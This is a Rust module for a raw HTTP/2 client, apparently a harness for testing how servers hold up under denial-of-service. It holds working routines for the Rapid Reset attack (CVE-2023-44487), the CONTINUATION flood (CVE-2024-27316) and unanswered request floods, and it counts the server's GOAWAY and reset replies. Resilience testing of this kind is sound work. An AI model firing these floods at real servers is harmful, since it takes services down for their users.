//! An HTTP/2 client without any rules: it sends frames as they are given, and counts those that it receives.

use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt, BufReader, ReadHalf, WriteHalf, split};
use tokio::sync::watch;
use tokio::task::JoinHandle;

use super::frames::{self, kind};
use crate::tls::Connection;

/// The frames that the server has sent so far.
#[derive(Debug, Clone, Default)]
pub struct Seen {
    /// The GOAWAY that was received: error code and debug data.
    pub goaway: Option<(u32, String)>,
    /// Header frames: answers, or their trailers.
    pub headers: usize,
    /// Streams it reset.
    pub resets: usize,
    /// Pings and settings it acknowledged.
    pub acks: usize,
    /// How much the server takes on the connection beyond the 65,535 octets that everybody may send (RFC 9113 §6.9.2).
    pub window: u64,
    /// Whether the connection has ended.
    pub ended: bool,
}

/// An established connection.
#[derive(Debug)]
pub struct Peer {
    out: WriteHalf<Connection>,
    seen: watch::Sender<Seen>,
    reader: Option<JoinHandle<()>>,
    unread: Option<ReadHalf<Connection>>,
    next: u32,
    /// Bytes written.
    pub written: u64,
}

impl Drop for Peer {
    fn drop(&mut self) {
        if let Some(reader) = &self.reader {
            reader.abort();
        }
    }
}

impl Peer {
    /// Sends the connection preface and only the frames that the protocol requires.
    pub async fn start(connection: Connection) -> Self {
        let mut peer = Self::deaf(connection).await;
        if let Some(read) = peer.unread.take() {
            peer.reader = Some(tokio::spawn(listen(read, peer.seen.clone())));
        }
        peer
    }

    /// Like [`Peer::start`], and never reads.
    pub async fn deaf(connection: Connection) -> Self {
        let (read, out) = split(connection);
        let seen = watch::Sender::default();
        let mut peer = Self { out, seen, reader: None, unread: Some(read), next: 1, written: 0 };
        let hello = [
            frames::PREFACE.to_vec(),
            frames::frame(kind::SETTINGS, 0, 0, &[]),
            frames::frame(kind::SETTINGS, frames::ACK, 0, &[]),
        ];
        peer.send(&hello.concat()).await;
        peer
    }

    /// The number of the next stream.
    pub fn stream(&mut self) -> u32 {
        let stream = self.next;
        self.next += 2;
        stream
    }

    /// Sends, if the connection still takes it.
    pub async fn send(&mut self, octets: &[u8]) -> bool {
        let sent = async {
            self.out.write_all(octets).await?;
            self.out.flush().await
        };
        let sent = matches!(tokio::time::timeout(Duration::from_secs(5), sent).await, Ok(Ok(())));
        if sent {
            self.written += octets.len() as u64;
        }
        sent && !self.seen().ended
    }

    /// What was received so far.
    #[must_use]
    pub fn seen(&self) -> Seen {
        self.seen.borrow().clone()
    }

    /// Waits until the server has sent GOAWAY or the connection has ended. Never returns for a peer that does not read.
    pub async fn dismissed(&self) {
        let mut seen = self.seen.subscribe();
        // This holds the other end of the channel.
        let _ = seen.wait_for(|seen| seen.goaway.is_some() || seen.ended).await;
    }

    /// What was received until the connection ended or the timeout passed.
    pub async fn outcome(&mut self, patience: Duration) -> Seen {
        if let Some(reader) = &mut self.reader {
            let _ = tokio::time::timeout(patience, reader).await;
        }
        self.seen()
    }

    /// Sends the same `count` times, `batch` of them at once with a pause between; says how many went out.
    pub async fn repeat(&mut self, octets: &[u8], count: usize, batch: usize, pause: Duration) -> usize {
        let whole = octets.repeat(batch);
        let mut sent = 0;
        while sent < count && self.send(&whole).await {
            sent += batch;
            tokio::time::sleep(pause).await;
        }
        sent
    }

    /// Begins calls and resets each at once (CVE-2023-44487), or only in the next batch, when the server has begun to
    /// work for it.
    pub async fn rapid_reset(
        &mut self,
        path: &str,
        count: usize,
        batch: usize,
        late: Option<Duration>,
    ) -> usize {
        let block = frames::request(path);
        let mut sent = 0;
        while sent < count {
            let streams: Vec<u32> = (0..batch).map(|_| self.stream()).collect();
            let open = |stream: &u32| frames::frame(kind::HEADERS, frames::END_HEADERS, *stream, &block);
            let pair = |stream: &u32| [open(stream), frames::reset(*stream)].concat();
            let alive = match late {
                None => self.send(&streams.iter().flat_map(pair).collect::<Vec<u8>>()).await,
                Some(later) => {
                    self.send(&streams.iter().flat_map(open).collect::<Vec<u8>>()).await;
                    tokio::time::sleep(later).await;
                    self.send(&streams.iter().flat_map(|s| frames::reset(*s)).collect::<Vec<u8>>()).await
                }
            };
            if !alive {
                break;
            }
            sent += batch;
        }
        sent
    }

    /// Makes calls and does not wait for their answers; says how many went out.
    pub async fn calls(
        &mut self,
        path: &str,
        message: &[u8],
        count: usize,
        batch: usize,
        pause: Duration,
    ) -> usize {
        let mut sent = 0;
        while sent < count {
            let mut octets = Vec::new();
            for _ in 0..batch {
                let stream = self.stream();
                octets.extend(frames::call(stream, path, message));
            }
            if !self.send(&octets).await {
                break;
            }
            sent += batch;
            tokio::time::sleep(pause).await;
        }
        sent
    }

    /// A header block that goes on and on (CVE-2024-27316); says how many frames went out.
    pub async fn continuation_flood(&mut self, fragment: &[u8], count: usize) -> usize {
        let stream = self.stream();
        if !self.send(&frames::frame(kind::HEADERS, 0, stream, &frames::request("/a/b"))).await {
            return 0;
        }
        let more = frames::frame(kind::CONTINUATION, 0, stream, fragment);
        let mut sent = 0;
        while sent < count && self.send(&more).await {
            sent += 1;
        }
        sent
    }
}

async fn listen(read: impl AsyncRead + Unpin, seen: watch::Sender<Seen>) {
    let mut read = BufReader::new(read);
    let mut payload = Vec::new();
    while let Ok(head) = head(&mut read).await {
        payload.clear();
        let more = (&mut read).take(u64::from(head.length)).read_to_end(&mut payload).await;
        if more.is_err() {
            break;
        }
        seen.send_modify(|seen| note(seen, &head, &payload));
    }
    seen.send_modify(|seen| seen.ended = true);
}

struct Head {
    length: u32,
    kind: u8,
    flags: u8,
    stream: u32,
}

async fn head(read: &mut (impl AsyncRead + Unpin)) -> std::io::Result<Head> {
    let first = read.read_u32().await?;
    let flags = read.read_u8().await?;
    let stream = read.read_u32().await?;
    Ok(Head { length: first >> 8, kind: first.to_be_bytes()[3], flags, stream })
}

fn note(seen: &mut Seen, head: &Head, payload: &[u8]) {
    match head.kind {
        kind::HEADERS => seen.headers += 1,
        kind::RST_STREAM => seen.resets += 1,
        kind::SETTINGS | kind::PING if head.flags & frames::ACK != 0 => seen.acks += 1,
        kind::WINDOW_UPDATE if head.stream == 0 => {
            let more = payload.try_into().map_or(0, u32::from_be_bytes);
            seen.window += u64::from(more);
        }
        kind::GOAWAY => {
            let code = payload.get(4..8).and_then(|octets| octets.try_into().ok());
            let debug = String::from_utf8_lossy(payload.get(8..).unwrap_or_default()).into_owned();
            seen.goaway = Some((code.map_or(u32::MAX, u32::from_be_bytes), debug));
        }
        _ => {}
    }
}
